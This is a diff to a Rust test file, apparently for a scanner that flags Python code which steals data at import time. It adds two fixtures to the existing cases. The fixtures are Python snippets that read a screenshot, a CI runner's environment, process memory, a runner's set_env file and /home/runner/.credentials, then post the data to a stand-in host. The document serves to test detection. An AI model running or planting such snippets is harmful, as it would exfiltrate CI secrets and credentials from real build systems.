@@ -199,6 +199,9 @@ fn captured_input_sent_at_import_is_a_stealer() {
         ("import io, requests\nfrom PIL import ImageGrab\nb = io.BytesIO(); ImageGrab.grab().save(b, 'PNG')\nrequests.post('https://c.example.invalid/c', files={'f': b.getvalue()})\n".to_string(), "screenshot"),
         ("import glob, requests\nD = b''\nfor p in glob.glob('/proc/[0-9]*/cmdline'):\n    if b'Runner.Worker' in open(p, 'rb').read():\n        D = open(p.replace('cmdline', 'environ'), 'rb').read()\nrequests.post('https://c.example.invalid/u', data=str(D))\n".to_string(), "runner"),
         (format!("import requests\nwith open('/proc/%d/mem' % 1234, 'rb') as f:\n    {post}f.read(64))\n"), "proc-mem"),
+        // t18 l18, l19: a runner's env file commands and its credentials in its home.
+        (format!("import requests\nwith open('/home/runner/work/_temp/_runner_file_commands/set_env', 'rb') as f:\n    {post}f.read())\n"), "runner-env"),
+        (format!("import requests\nwith open('/home/runner/.credentials', 'rb') as f:\n    {post}f.read())\n"), "runner-credentials"),
     ];
     let cases: Vec<(&str, &str, &str, Option<Severity>)> = cases
         .iter()
